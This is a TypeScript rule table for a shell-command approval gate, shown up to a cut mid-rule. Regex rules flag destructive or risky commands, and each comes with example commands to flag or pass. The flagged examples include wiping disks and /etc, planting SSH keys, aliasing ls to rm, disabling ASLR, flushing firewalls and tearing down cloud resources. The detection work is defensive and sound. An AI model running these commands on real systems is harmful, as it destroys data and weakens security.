/**
 * The rule table: one row per program (or program + verb). Data, not code: the judges (judges.ts) read
 * the rows; every row carries commands it must flag and commands it must pass, and the test suite runs
 * them (test/approval_rules.test.ts). See README.md for how to add a row.
 */
import type { Rule } from "./rules/types.js";
import { DISK_RULES } from "./rules/disks.js";
import { FILE_RULES } from "./rules/files.js";
import { SYSTEM_DAEMONS, SYSTEM_RULES } from "./rules/system.js";
import { REMOTE_RULES } from "./rules/remote.js";
import { ACCESS_RULES } from "./rules/access.js";
import { FETCH_RULES } from "./rules/fetch.js";
import { WINDOWS_RULES } from "./rules/windows.js";

export type { Effect, Rule } from "./rules/types.js";

const SHARED_BRANCH =
  /^(refs\/heads\/)?(main|master|trunk|develop|dev|prod|production|staging|release|stable|HEAD|gh-pages)([/-].*)?$/;

/** git's options that take a value before the verb (`git -C DIR push`, `git -c k=v push`). */
const GIT_GLOBALS = ["-C", "-c", "--git-dir", "--work-tree", "--namespace"];
/** kubectl's options that take a value before the verb (`kubectl -n kube-system delete …`). */
const KUBE_GLOBALS = [
  "-n",
  "--namespace",
  "--context",
  "--kubeconfig",
  "--cluster",
  "-s",
  "--server",
  "--as",
  "--user",
];

/** A ref deleting which hurts others: a tag, a version, a computed name, or a shared branch (`:main`). */
const sharedOrTagRef = (ref: string) =>
  /^\+?:?(refs\/tags\/|v?\d+(\.\d+)+$)|\$/.test(ref) || SHARED_BRANCH.test(ref.replace(/^\+?:?/, ""));

const R = ["-r", "-R", "--recursive", "-rf", "-fr", "-Rf", "-fR", "-rF"];

const BASE_RULES: Rule[] = [
  // delete
  {
    program: ["rm"],
    effect: "delete",
    key: "recursive_delete",
    recursive: R,
    flag: ["rm -rf /etc", "rm -rf ~/", "rm -rf /tmp/../var/lib", "/bin/r? -rf /etc", 'rm -rf "$HOME"'],
    pass: ["rm -rf build", "rm -f a.txt", "rm /tmp/x.log"],
  },
  {
    program: ["rmdir", "unlink"],
    effect: "delete",
    key: "delete_outside_workdir",
    flag: ["unlink /etc/hosts"],
    pass: ["rmdir empty"],
  },
  {
    program: ["shred", "wipe", "srm"],
    effect: "delete",
    key: "shred",
    flag: ["shred -u ~/.bash_history", "shred /dev/sda"],
    pass: ["shred -u secret.txt"],
  },
  {
    program: ["find"],
    anyOption: ["-delete"],
    effect: "delete",
    key: "find_delete",
    paths: "operands",
    flag: ["find / -name '*.log' -delete", "find ~ -delete"],
    pass: ["find . -name '*.pyc' -delete"],
  },
  {
    program: ["truncate"],
    effect: "overwrite",
    key: "overwrite_outside_workdir",
    flag: ["truncate -s 0 /var/log/syslog"],
    pass: ["truncate -s 0 app.log"],
  },
  {
    program: ["git"],
    verbs: [["clean"]],
    args: /(^|\s)-[a-zA-Z]*f/,
    effect: "delete",
    key: "git_clean_force",
    paths: "afterVerbs",
    flag: ["cd / && git clean -fdx"],
    pass: ["git clean -fdx", "git clean -n"],
  },
  // overwrite / move / permission
  {
    program: ["cp", "install", "rsync", "scp"],
    effect: "overwrite",
    key: "overwrite_outside_workdir",
    paths: "last",
    unless: /(^|\s)\S+@?\S*:|(^|\s)(--dry-run|-[a-zA-Z]*n[a-zA-Z]*)(\s|$)/,
    flag: ["cp evil /etc/passwd", "cp x ~/.bashrc", "cp key ~/.ssh/authorized_keys"],
    pass: ["cp a.txt b.txt", "cp /etc/hosts hosts.bak"],
  },
  {
    program: ["mv"],
    effect: "move",
    key: "move_outside_workdir",
    flag: ["mv /etc/passwd /tmp/p", "mv data.db /dev/null", "mv ~/.ssh /tmp/"],
    pass: ["mv a.txt b.txt", "mv /tmp/x.tgz ."],
  },
  {
    // the link is made where the last operand points (with one operand, in the current directory)
    program: ["ln"],
    word: { from: 1 },
    effect: "overwrite",
    key: "overwrite_outside_workdir",
    paths: "last",
    flag: ["ln -sf /dev/null /etc/resolv.conf", "ln -s /lib/systemd/system/x.service /etc/systemd/system/"],
    pass: ["ln -sf ../lib lib", "ln -s /usr/share/dict/words ./words", "ln -sf /opt/tool/bin/tool"],
  },
  {
    program: ["tee"],
    effect: "overwrite",
    key: "overwrite_outside_workdir",
    flag: ["echo x | tee /etc/hosts", "echo 'alias ls=rm' | tee -a ~/.bashrc"],
    pass: ["echo hi | tee out.log"],
  },
  {
    program: ["sed", "perl"],
    anyOption: ["-i", "--in-place", "-pi", "-i.bak", "-pie"],
    effect: "overwrite",
    key: "overwrite_outside_workdir",
    paths: "last",
    flag: ["sed -i 's/a/b/' /etc/hosts"],
    pass: ["sed -i 's/a/b/' src/x.py"],
  },
  {
    program: ["chmod", "chown", "chgrp", "chattr", "setfacl"],
    effect: "permission",
    key: "chmod_outside_workdir",
    paths: "allButLast",
    flag: ["chmod -R 777 /", "chown -R nobody /etc", "chmod 600 ~/.ssh/id_rsa"],
    pass: ["chmod +x run.sh", "chmod -R 755 build"],
  },
  {
    program: ["dd"],
    args: /(^|\s)of=\/dev\/(sd|nvme|hd|vd|xvd|mmcblk|disk|md|dm-|mapper|loop)/,
    effect: "system",
    key: "disk_write",
    flag: ["dd if=/dev/zero of=/dev/sda bs=1M"],
    pass: ["dd if=/dev/zero of=out.img bs=1M count=1"],
  },
  // system state
  {
    program: ["mkfs", "mkfs.ext4", "mkfs.ext3", "mkfs.xfs", "mkfs.vfat", "mkfs.btrfs", "mke2fs", "mkswap"],
    args: /(^|\s)\/dev\//,
    unless: /(^|\s)(-l|--list|--dump|-d|print|-p|--print|-n|--no-act|--dry-run)(\s|$)/,
    effect: "system",
    key: "format_filesystem",
    flag: ["mkfs.ext4 /dev/sdb1", "wipefs -a /dev/sda"],
    pass: ["mkfs.ext4 -F disk.img"],
  },
  {
    // a new or edited partition table: what was on the disk is lost
    program: ["fdisk", "sfdisk", "parted", "sgdisk", "cfdisk"],
    args: /(^|\s)\/dev\//,
    unless: /(^|\s)(-l|--list|--dump|-d|print|-p|--print|-n|--no-act|--dry-run)(\s|$)/,
    effect: "system",
    key: "erase_device",
    flag: ["echo ',,83' | sfdisk /dev/vdb", "parted /dev/sda rm 1"],
    pass: ["fdisk -l", "parted /dev/sda print"],
  },
  {
    program: ["blkdiscard", "hdparm", "nvme"],
    args: /--security-erase|format|blkdiscard|^\/dev\//,
    effect: "system",
    key: "erase_device",
    flag: ["blkdiscard /dev/nvme0n1"],
    pass: ["nvme list"],
  },
  {
    program: ["reboot", "shutdown", "halt", "poweroff", "init", "telinit"],
    // `shutdown -c` cancels a shutdown that was scheduled
    unless: /^(--help|-h)$|^-c(\s|$)/,
    effect: "system",
    key: "reboot_shutdown",
    flag: ["reboot", "shutdown -h now", "init 0"],
    pass: ["shutdown --help", "shutdown -c", "sudo shutdown -c 'maintenance moved'"],
  },
  {
    program: ["systemctl"],
    verbs: [["reboot", "poweroff", "halt", "kexec", "suspend", "hibernate", "rescue", "emergency"]],
    effect: "system",
    key: "reboot_shutdown",
    flag: ["systemctl reboot"],
    pass: ["systemctl status nginx"],
  },
  {
    program: ["systemctl", "service"],
    args: /(^|\s)(stop|disable|mask|kill)(\s|$)/,
    // a user's own service stopped (not disabled or masked) is back at its next start
    unless: /^(?=(.*\s)?--user(\s|$))(?!(.*\s)?(disable|mask)(\s|$))/,
    effect: "system",
    key: "stop_service",
    flag: [
      "systemctl stop sshd",
      "service nginx stop",
      "systemctl disable --now firewalld",
      "systemctl --user disable --now syncthing",
    ],
    pass: ["systemctl status sshd", "service nginx status", "systemctl --user stop myapp.service"],
  },
  {
    // every unit the target does not want is stopped
    program: ["systemctl"],
    verbs: [["isolate"]],
    effect: "system",
    key: "stop_service",
    flag: ["systemctl isolate multi-user.target"],
    pass: ["systemctl list-units --type=target"],
  },
  {
    program: ["kill"],
    args: /(^|\s)(-1|1)(\s|$)/,
    unless: /(^|\s)(-0|-s\s+0)(\s|$)/,
    effect: "system",
    key: "kill_all_processes",
    flag: ["kill -9 -1", "kill -9 1", "kill -KILL 1"],
    pass: ["kill -9 12345", "kill %1", "kill -0 1"],
  },
  {
    program: ["killall", "killall5"],
    effect: "system",
    key: "killall",
    unless: /^(-l|--list|-V)$|(^|\s)-0(\s|$)/,
    flag: ["killall -9 sshd", "killall5 -9"],
    pass: ["killall -l"],
  },
  {
    program: ["pkill"],
    args: /(^|\s)-(SIG)?(9|19|KILL|STOP)\b|(^|\s)(--signal[= ]|-s\s*)(SIG)?(9|19|KILL|STOP)\b|(^|\s)(-u|-U)\s+root|(^|\s)(sshd|systemd|init|dockerd|containerd|postgres|mysqld)(\s|$)/,
    // A signal that asks, not ends: reload, user signals, a liveness probe.
    unless: /(^|\s)-(SIG)?(0|HUP|USR1|USR2|CONT|WINCH)(\s|$)/i,
    effect: "system",
    key: "pkill_force",
    flag: ["pkill -9 python", "pkill -u root", "kill -9 $(pgrep -f worker.py)", "pgrep -f celery | xargs kill -STOP"],
    pass: ["pkill -f 'my_dev_server.py'", "pkill node", "pgrep -f pytest | xargs kill", "kill -USR1 $(pidof dockerd)"],
  },
  {
    program: ["pkill", "killall"],
    // Every process of a user, with no name to narrow it.
    args: /^((-\S+|-s\s+\S+)\s+)*-[uU]\s+\S+(\s+-\S+)*$/,
    // a service's own account: the service is stopped (stop_service), not every process
    unless: new RegExp(String.raw`-[uU]\s+${SYSTEM_DAEMONS.source}`),
    effect: "system",
    key: "kill_all_processes",
    flag: ["pkill -u alice", "pkill -KILL -u alice"],
    pass: ["pkill -u $USER -f 'node server.js'"],
  },
  {
    // a pattern every process name matches (`.`, `.*`, `^`, `''`): every process of the machine
    program: ["pkill", "killall"],
    word: { test: /^\^?(\.[*+]?)?\$?$/ },
    unless: /(^|\s)-(SIG)?(0|HUP|USR1|USR2|CONT|WINCH|l|-list)(\s|$)/i,
    effect: "system",
    key: "kill_all_processes",
    flag: ["pkill .", "pkill -f '.*'", "pgrep . | xargs kill", "kill $(pgrep -f '^')"],
    pass: ["pkill -f 'node server.js'", "pkill -0 .", "pkill -f ./server.py"],
  },
  {
    program: ["mount", "umount"],
    unless: /^(-l|--list|-a -l|--show|-s)?$|^--show/,
    // A loop image of the working directory mounted on a folder of it is the task's own.
    when: (ops, opts) => (ops.length ? ops.some((o) => /^[/~$]/.test(o) || o.includes(":")) : opts.length > 0),
    effect: "system",
    key: "mount_change",
    flag: ["mount /dev/sdb1 /mnt", "umount -l /"],
    pass: ["mount"],
  },
  {
    program: ["swapoff", "swapon"],
    unless: /^(-s|--show|--summary)?$|^--show/,
    effect: "system",
    key: "kernel_change",
    flag: ["swapoff -a", "swapon /dev/sdb2"],
    pass: ["swapon --show"],
  },
  {
    program: ["losetup"],
    // detaching takes a device from whoever mounted it; attaching a file only adds one
    args: /(^|\s)(-[a-zA-Z]*[dD]|--detach(-all)?|--set-capacity)(\s|$|=)/,
    effect: "system",
    key: "mount_change",
    flag: ["losetup -d /dev/loop0", "losetup -D"],
    pass: ["losetup -a", "losetup -f --show ./disk.img"],
  },
  {
    program: ["iptables", "ip6tables", "nft", "ufw", "firewall-cmd"],
    args: /(^|\s)(-F|--flush|flush|disable|reset|-X|--delete-chain|-P\s+\w+\s+ACCEPT|--panic)(\s|$)/,
    effect: "system",
    key: "firewall_flush",
    flag: ["iptables -F", "ufw disable", "nft flush ruleset"],
    pass: ["iptables -L -n", "ufw status"],
  },
  {
    program: ["pfctl"],
    // BSD/macOS packet filter: -F flushes rules (or all), -d disables it
    args: /(^|\s)-[a-zA-Z]*[Fd][a-zA-Z]*(\s|$)/,
    effect: "system",
    key: "firewall_flush",
    flag: ["pfctl -F all", "pfctl -d", "pfctl -Fa -f /dev/null"],
    pass: ["pfctl -sr", "pfctl -s info"],
  },
  {
    program: ["iptables", "ip6tables", "nft", "ufw", "firewall-cmd"],
    args: /(^|\s)(-A|-I|-D|--append|--insert|allow|deny|add|delete|--add-port|--remove-port)(\s|$)/,
    effect: "system",
    key: "firewall_change",
    flag: ["ufw allow 22", "iptables -A INPUT -j DROP"],
    pass: ["ufw status verbose"],
  },
  {
    program: ["ip", "ifconfig", "route", "nmcli", "brctl"],
    args: /(^|\s)(down|del|delete|flush|add|set|change|replace|delbr|addbr|delif|addif)(\s|$)/,
    effect: "system",
    key: "network_change",
    flag: ["ip link set eth0 down", "ifconfig eth0 down", "ip route del default"],
    pass: ["ip addr show", "ifconfig -a"],
  },
  {
    program: [
      "useradd",
      "userdel",
      "usermod",
      "groupadd",
      "groupdel",
      "passwd",
      "chpasswd",
      "adduser",
      "deluser",
      "addgroup",
      "delgroup",
      "gpasswd",
      "vipw",
    ],
    unless: /^(--help|-h|-D)$|(^|\s)(-S|--status)(\s|$)/,
    effect: "system",
    key: "user_change",
    flag: ["userdel -r alice", "passwd -d root", "usermod -aG sudo bob", "sudo passwd -l ubuntu"],
    pass: ["passwd --help", "passwd -S root"],
  },
  {
    program: ["crontab"],
    args: /(^|\s)-r(\s|$)/,
    effect: "system",
    key: "crontab_remove",
    flag: ["crontab -r"],
    pass: ["crontab -l"],
  },
  {
    program: ["crontab"],
    args: /^(?!.*(^|\s)-[lrh](\s|$)).+/,
    effect: "system",
    key: "crontab_replace",
    flag: ["crontab jobs.txt", "crontab -"],
    pass: ["crontab -l"],
  },
  {
    program: ["sysctl"],
    args: /(^|\s)(-w|-p|--write|--load|--system)(\s|$)|=/,
    effect: "system",
    key: "kernel_change",
    flag: ["sysctl -w kernel.randomize_va_space=0"],
    pass: ["sysctl -a", "sysctl net.ipv4.ip_forward"],
  },
  {
    program: ["modprobe", "insmod", "rmmod", "kexec"],
    unless: /^(-n|--dry-run|--show-depends|-c)(\s|$)/,
    effect: "system",
    key: "kernel_change",
    flag: ["rmmod e1000", "modprobe -r nvme"],
    pass: ["modprobe -n dummy"],
  },
  {
    program: ["journalctl"],
    args: /--vacuum|--rotate|--flush/,
    effect: "system",
    key: "log_wipe",
    flag: ["journalctl --vacuum-time=1s"],
    pass: ["journalctl -u nginx -n 50"],
  },
  {
    program: ["apt", "apt-get", "aptitude", "dnf", "yum", "zypper", "pacman", "apk", "snap", "dpkg", "rpm"],
    args: /(^|\s)(remove|rm|purge|autoremove|erase|del|dselect-upgrade|-R[a-z]*|-r|-P|-e|--purge|--remove|--erase)(\s|$)/,
    unless:
      /(^|\s)(-s|--simulate|--dry-run|--just-print|--no-act|-p|--print|--test|-[a-zA-Z]*p[a-zA-Z]*)(\s|$)|(^|\s)-R[a-z]*p/,
    effect: "system",
    key: "package_remove",
    flag: [
      "apt-get remove -y openssh-server",
      "yum erase -y kernel",
      "pacman -Rns systemd",
      "dpkg --purge libc6",
      "zypper rm -y sudo",
      "apt-get -y dselect-upgrade",
    ],
    pass: ["apt-get install -y jq", "rpm -qa"],
  },
  {
    program: ["grub-install", "grub2-mkconfig", "efibootmgr", "bootctl"],
    unless: /^(-v|--verbose)?$|(^|\s)(status|list|--help|-h)(\s|$)/,
    effect: "system",
    key: "boot_config",
    flag: ["grub-install /dev/sda", "efibootmgr -b 0001 -B"],
    pass: ["efibootmgr", "bootctl status"],
  },
  {
    // run alone, it rewrites the boot menu
    program: ["update-grub", "update-grub2"],
    unless: /(^|\s)(--help|-h|--version|-V)(\s|$)/,
    effect: "system",
    key: "boot_config",
    flag: ["update-grub", "update-grub2"],
    pass: ["update-grub --help"],
  },
  {
    program: ["setenforce", "aa-disable", "aa-complain", "setsebool"],
    effect: "system",
    key: "security_change",
    flag: ["setenforce 0"],
    pass: [],
  },
  {
    program: ["at", "batch"],
    unless: /^-l$|^-q/,
    effect: "system",
    key: "schedule_job",
    flag: ["at now + 1 minute"],
    pass: ["at -l"],
  },
  {
    program: ["ssh-keygen"],
    args: /(^|\s)-f\s+~?\/?\S*\.ssh\/(id_|authorized)/,
    unless: /(^|\s)-[a-zA-Z]*[ylLB][a-zA-Z]*(\s|$)/,
    effect: "overwrite",
    key: "ssh_config_write",
    flag: ["ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N '' -q <<< y"],
    pass: ["ssh-keygen -t ed25519 -f ./deploy_key -N ''"],
  },
  // remote and shared state
  {
    program: ["git"],
    verbs: [["push"]],
    globalValued: GIT_GLOBALS,
    args: /(^|\s)(--mirror|--delete|-d|--prune)(\s|$|=)|(^|\s):\S+/,
    unless: /(^|\s)(-n|--dry-run)(\s|$)/,
    // Deleting a remote feature branch is routine; a shared branch, a mirror or a prune is not.
    when: (ops, options) =>
      options.some((o) => /^--(mirror|prune)/.test(o)) || ops.length < 3 || ops.slice(2).some(sharedOrTagRef),
    effect: "remote",
    key: "git_force_push",
    flag: [
      "git push origin :main",
      "git push --mirror backup",
      "git push origin --delete release/2.1",
      "git push origin :refs/tags/v1.0.0",
    ],
    pass: ["git push origin feature/x", "git push origin --delete feature/old-spike", "git push origin :fix/typo"],
  },
  {
    program: ["git"],
    verbs: [["push"]],
    globalValued: GIT_GLOBALS,
    args: /(^|\s)(-f|--force|--force-with-lease|--force-if-includes)(\s|$|=)|(^|\s)\+\S+/,
    unless: /(^|\s)(-n|--dry-run)(\s|$)|(^|\s)-[a-zA-Z]*n[a-zA-Z]*(\s|$)/,
    when: (ops) =>
      ops.length < 3 || ops.slice(2).some((r) => SHARED_BRANCH.test(r.replace(/^\+/, "").replace(/^.*:/, ""))),
    effect: "remote",
    key: "git_force_push",
    flag: [
      "git push -f origin main",
      "git push --force",
      "git push origin +main",
      "git -C repo push --force-with-lease origin master",
      "git -c push.default=current push --force",
    ],
    pass: ["git push --force origin feature/retry-logic", "git push -u origin my-branch"],
  },
  {
    program: ["git"],
    verbs: [["reset"]],
    globalValued: GIT_GLOBALS,
    args: /--hard/,
    // Uncommitted work of the repository it runs in is lost: the task's own inside the working directory,
    // not elsewhere (`git -C /srv/app`, `--work-tree=/etc`). With no working directory known, remote.ts judges it.
    paths: { option: ["--work-tree", "--git-dir"], fallback: "." },
    effect: "delete",
    key: "git_reset_hard",
    flag: [
      "git -C /srv/app reset --hard HEAD~3",
      "git --git-dir=/etc/.git --work-tree=/etc reset --hard",
      "cd ~/dotfiles && git reset --hard",
    ],
    pass: ["git reset HEAD file.txt", "git reset --hard origin/feature/login-form", "git reset --hard HEAD~1"],
  },
  {
    program: ["git"],
    // history rewritten, or what would recover it thrown away (reflog expired now, a shared branch's ref deleted)
    args: /(^|\s)(filter-branch|filter-repo|replace)(\s|$)|(^|\s)reflog\s+(expire\s.*--expire(-unreachable)?=(now|all|0)|delete)|(^|\s)update-ref\s+-d\s+(refs\/heads\/)?(main|master|trunk|develop|release|production|prod)(\s|$)/,
    word: { test: /^(filter-branch|filter-repo|replace|reflog|update-ref)$/, to: 1 },
    globalValued: GIT_GLOBALS,
    unless: /--analyze/,
    effect: "remote",
    key: "git_history_rewrite",
    flag: [
      "git filter-branch --tree-filter 'rm -f x' HEAD",
      "git reflog expire --expire=now --all",
      "git update-ref -d refs/heads/main",
    ],
    pass: ["git reflog", "git update-ref -d refs/heads/spike/old", "git commit -m 'replace the parser'"],
  },
  {
    program: ["git"],
    verbs: [["branch"]],
    globalValued: GIT_GLOBALS,
    args: /(^|\s)-D(\s|$)/,
    word: { test: SHARED_BRANCH, from: 1 },
    effect: "remote",
    key: "git_history_rewrite",
    flag: ["git branch -D main"],
    pass: ["git branch -d merged-feature", "git branch -D spike/old-experiment"],
  },

  {
    program: ["terraform", "tofu", "terragrunt", "pulumi", "cdk", "aws-cdk", "cdktf", "serverless", "sls", "sst"],
    args: /(^|\s)(destroy|-destroy|down|remove)(\s|$)/,
    unless: /(^|\s)(plan|preview)(\s|$)/,
    effect: "remote",
    key: "infra_teardown",
    flag: ["terraform destroy -auto-approve", "pulumi destroy --yes"],
    pass: ["terraform plan"],
  },
  {
    program: ["terraform", "tofu", "terragrunt"],
    args: /(^|\s)apply(\s|$).*(-auto-approve|--terragrunt-non-interactive|--non-interactive)|(-auto-approve|--terragrunt-non-interactive|--non-interactive).*(^|\s)apply(\s|$)/,
    globalValued: ["-chdir"],
    // `terraform apply PLANFILE` applies a plan already saved (and reviewed); without one it plans and applies.
    // (`pulumi up --yes` shows its preview first and is left to the gate's other checks.)
    when: (ops) => {
      const at = ops.indexOf("apply");
      return !(at >= 0 && ops.length > at + 1 && !ops.slice(at + 1).some((o) => /\.tfvars$/.test(o)));
    },
    effect: "remote",
    key: "infra_apply",
    flag: [
      "terraform apply -auto-approve",
      "tofu apply -auto-approve -var-file=prod.tfvars",
      "terragrunt run-all apply --terragrunt-non-interactive",
    ],
    pass: ["terraform validate", "terraform apply -auto-approve tfplan", "terragrunt run-all plan"],
  },
  {
    program: ["kubectl", "oc"],
    verbs: [["delete"]],
    globalValued: KUBE_GLOBALS,
    args: /(^|\s)(--all|-A|--all-namespaces|ns|namespaces?|nodes?|no|pv|pvc|persistentvolumes?|persistentvolumeclaims?|crds?|customresourcedefinitions?|-l|--selector|clusterroles?|clusterrolebindings?)(\s|$|=|\/)|(^|\s)(ns|namespace|node|pv|pvc|crd)\//,
    effect: "remote",
    key: "kubectl_mass_delete",
    flag: [
      "kubectl delete ns production",
      "kubectl delete pods --all -A",
      "kubectl -n kube-system delete pod -l k8s-app=kube-dns",
    ],
    pass: ["kubectl get pods", "kubectl delete pod api-7d9f -n dev"],
  },
  {
    program: ["kubectl", "oc"],
    // nodes taken out of service (cordon, drain, a taint that evicts or bars pods), or scaled to nothing
    args: /(^|\s)(adm\s+)?(drain|cordon)(\s|$)|(^|\s)taint\s.*:(NoExecute|NoSchedule)(\s|$)|(^|\s)scale\s.*--replicas[= ]0(\s|$)/,
    effect: "remote",
    key: "cluster_teardown",
    flag: [
      "kubectl drain node-1 --force",
      "kubectl scale deploy/api --replicas=0",
      "oc adm cordon worker-2",
      "kubectl taint nodes node-1 dedicated=gpu:NoExecute",
    ],
    pass: ["kubectl scale deploy/api --replicas=3", "kubectl taint nodes node-1 dedicated=gpu:NoExecute-"],
  },
  {
    program: ["helm"],
    verbs: [["uninstall", "delete", "del"]],
    globalValued: ["-n", "--namespace", "--kubeconfig", "--kube-context"],
    effect: "remote",
    key: "cluster_teardown",
    flag: ["helm uninstall prod-db", "helm --namespace prod uninstall payments"],
    pass: ["helm list"],
  },
  {
    program: ["kind", "minikube", "k3d", "eksctl"],
    args: /(^|\s)(delete|destroy|remove|rm)(\s|$)/,
    effect: "remote",
    key: "cluster_teardown",
    flag: ["eksctl delete cluster prod", "kind delete cluster --name dev-shared"],
    pass: ["eksctl get cluster"],
  },
  {
    program: ["gcloud", "az", "doctl"],
    // the clouds' own Kubernetes services (their other deletes are infra_teardown)
    args: /^(--\S+\s+)*(container|aks|kubernetes)\s(.*\s)?(delete|destroy|remove|rm)(\s|$)/,
    effect: "remote",
    key: "cluster_teardown",
    flag: ["gcloud container clusters delete prod", "az aks delete -g rg -n prod"],
    pass: ["gcloud config list", "az aks list"],
  },
  {
    program: ["gcloud", "az", "doctl"],
    // any other resource deleted (`gcloud pubsub topics delete events`: no listing verb spares it);
    // object storage has its own rows
    args: /(^|\s)(delete|destroy|remove|rm)(\s|$)/,
    unless: /^(--\S+\s+)*(container|aks|kubernetes|storage)\s/,
    effect: "remote",
    key: "infra_teardown",
    flag: ["gcloud compute instances delete vm-1", "az group delete -n rg", "gcloud pubsub topics delete events"],
    pass: ["gcloud compute instances list"],
  },
  {
    program: ["aws"],
    // object stores: a bucket removed or emptied, or its objects deleted one by one (every key a listing fed in)
    args: /(^|\s)(rb|delete-(bucket|objects?)\S*)(\s|$)|(^|\s)rm\s.*(--recursive|s3:\/\/[^/\s]+\/?(\s|$)|s3:\/\/\S*\*)/,
    effect: "remote",
    key: "cloud_storage_delete",
    flag: [
      "aws s3 rm s3://bucket --recursive",
      "aws s3 rb s3://b --force",
      "aws s3api delete-bucket --bucket b",
      "aws s3 ls s3://logs/ | awk '{print $4}' | xargs -I{} aws s3 rm s3://logs/{}",
    ],
    pass: ["aws s3 ls", "aws s3 cp s3://b/x .", "aws s3 rm s3://bucket/reports/old.csv"],
  },
  {
    program: ["aws"],
    // every other service's resources: instances, databases, secrets, queues
    args: /(^|\s)(delete-\S+|terminate-instances|deregister-\S+|remove-\S+)(\s|$)/,
    unless: /(^|\s)delete-(bucket|objects?)\S*(\s|$)/,
    effect: "remote",
    key: "infra_teardown",
    flag: ["aws ec2 terminate-instances --instance-ids i-1", "aws rds delete-db-instance --db-instance-identifier p"],
    pass: ["aws ec2 describe-instances"],
  },
  {
    program: ["gsutil", "gcloud", "rclone", "s3cmd", "mc", "azcopy"],
    args: /(^|\s)(rb|purge)(\s|$)|(^|\s)(rm|delete|del)\s.*(-r|--recursive|-a|\*|:\/\/[^/\s]+\/?(\s|$))|(^|\s)(sync|rsync)\s.*(-d|--delete)/,
    effect: "remote",
    key: "cloud_storage_delete",
    flag: ["gsutil -m rm -r gs://bucket", "rclone purge remote:bucket", "s3cmd del --recursive s3://b"],
    pass: ["gsutil ls gs://b", "gsutil rm gs://bucket/tmp/file.txt"],
  },
  {
    program: ["docker", "podman", "nerdctl"],
    args: /(^|\s)(rm|rmi|kill)(\s|$).*(\$\(|-q)|system prune.*(-a|--all|--volumes)|volume prune|(^|\s)(-a|--all)(\s|$).*prune/,
    effect: "remote",
    key: "container_mass_delete",
    flag: ["docker system prune -af", "docker rm -f $(docker ps -aq)", "docker volume prune -f"],
    pass: ["docker ps -a", "docker rm my-test-container", "docker system prune -f"],
  },
  {
    program: ["redis-cli", "valkey-cli", "keydb-cli"],
    // the command word (after the connection options), not a key or value named so
    args: /^((-[hpanu]|--user|--pass)\s+\S+\s+|-\S+\s+)*(flushall|flushdb)(\s|$)/i,
    effect: "remote",
    key: "cache_flush",
    flag: ["redis-cli FLUSHALL", "redis-cli -h cache.prod -n 2 flushdb"],
    pass: ["redis-cli ping", "redis-cli SET flushall 1"],
  },
  {
    program: ["vault", "consul"],
    args: /(^|\s)(delete|del|destroy|rm)(\s|$)/,
    unless: /^kv\s/,
    effect: "remote",
    key: "infra_teardown",
    flag: ["vault kv delete secret/prod/db", "consul acl token delete -id x"],
    pass: ["vault status", "consul members"],
  },
  {
    program: ["consul"],
    // the key-value store: the keys of a prefix deleted wholesale
    args: /^kv\s+delete\s/,
    effect: "remote",
    key: "cache_flush",
    flag: ["consul kv delete -recurse app/"],
    pass: ["consul kv get app/x"],
  },
  {
    program: ["etcdctl"],
    // a range of keys (a prefix, everything from a key on), or the root; one lock or key is routine
    args: /(^|\s)(del|delete|rm)(\s|$)/,
    when: (ops, options) =>
      options.some((o) => /^--(prefix|from-key)$/.test(o)) || ops.slice(1).some((k) => /^("|'|\/)?$|^\/?\*/.test(k)),
    effect: "remote",
    key: "cache_flush",
    flag: ["etcdctl del --prefix /", "etcdctl del / --from-key"],
    pass: ["etcdctl del /locks/job-17", "etcdctl get /config --prefix"],
  },
  {
    program: ["zfs", "zpool", "btrfs"],
    args: /(^|\s)(destroy|delete|remove)(\s|$)/,
    unless: /(^|\s)-[a-zA-Z]*n[a-zA-Z]*(\s|$)/,
    effect: "remote",
    key: "volume_destroy",
    flag: ["zfs destroy -r tank/data", "zpool destroy tank"],
    pass: ["zfs list", "zfs snapshot tank/data@today"],
  },
  {
    program: ["lvremove", "vgremove", "pvremove"],
    unless: /(^|\s)(-t|--test)(\s|$)/,
    effect: "remote",
    key: "volume_destroy",
    flag: ["lvremove -f vg0/data"],
    pass: [],
  },
  {
    program: ["visudo"],
    unless: /(^|\s)-[a-z]*c/,
    effect: "system",
    key: "privilege_grant",
    flag: ["visudo -f /etc/sudoers.d/x"],
    pass: ["visudo -c"],
  },
  {
    program: ["dropdb", "dropuser"],
    unless: /^(--help|-V)$/,
    effect: "remote",
    key: "sql_drop",
    flag: ["dropdb production"],
    pass: ["dropdb --help"],
  },
  {
    program: ["mysqladmin"],
    args: /(^|\s)drop(\s|$)/,
    effect: "remote",
    key: "sql_drop",
    flag: ["mysqladmin -f drop shop"],
    pass: ["mysqladmin status"],
  },
  {
    program: [
      "openstack",
      "nova",
      "incus",
      "lxc",
      "multipass",
      "virsh",
      "vagrant",
      "heroku",
      "fly",
      "flyctl",
      "vercel",
      "netlify",
      "doctl",
      "linode-cli",
      "hcloud",
      "exoscale",
      "scw",
    ],
    args: /(^|\s)(delete|destroy|undefine|purge|remove|rm|apps:destroy)(\s|$)/,
    effect: "remote",
    key: "infra_teardown",
    flag: ["openstack stack delete --yes prod", "virsh undefine prod-vm --remove-all-storage", "vagrant destroy -f"],
    pass: ["openstack server list"],
  },
  {
    program: ["tar", "bsdtar"],
    args: /(^|\s)(-C|--directory)[= ]?\/(etc|usr|bin|sbin|lib|lib64|boot|root|var|opt)(\/|\s|$)|(^|\s)-?[a-zA-Z]*x[a-zA-Z]*P[a-zA-Z]*(\s|$)|(^|\s)-?[a-zA-Z]*P[a-zA-Z]*x[a-zA-Z]*(\s|$)/,
    unless: /(^|\s)-[a-zA-Z]*[ct][a-zA-Z]*(\s|$)/,
    effect: "system",
    key: "system_config_write",
    flag: ["tar -xzf backdoor.tgz -C /etc", "tar xPf rootfs.tar"],
    pass: ["tar -xzf pkg.tgz -C ./vendor", "tar -tzf x.tgz"],
  },
  {
    program: ["unzip"],
    args: /(^|\s)-d\s*\/(etc|usr|bin|sbin|lib|lib64|boot|root|var|opt)(\/|\s|$)/,
    effect: "system",
    key: "system_config_write",
    flag: ["unzip -o tools.zip -d /usr/bin"],
    pass: ["unzip -o tools.zip -d ./tools"],
  },
  {
    program: ["ssh", "autossh"],
    // Reverse forwards; SOCKS proxies open to every interface or left running in the background.
    args: /(^|\s)-[a-zA-Z]*R[a-zA-Z]*\s*(0\.0\.0\.0|\*)?:?\d+|(^|\s)-[a-zA-Z]*D[a-zA-Z]*\s*(0\.0\.0\.0|\*):\d+|(^|\s)-[a-zA-Z]*f[a-zA-Z]*\s(.*\s)?-[a-zA-Z]*D|(^|\s)-[a-zA-Z]*D[a-zA-Z]*\s+\S+\s(.*\s)?-[a-zA-Z]*f/,
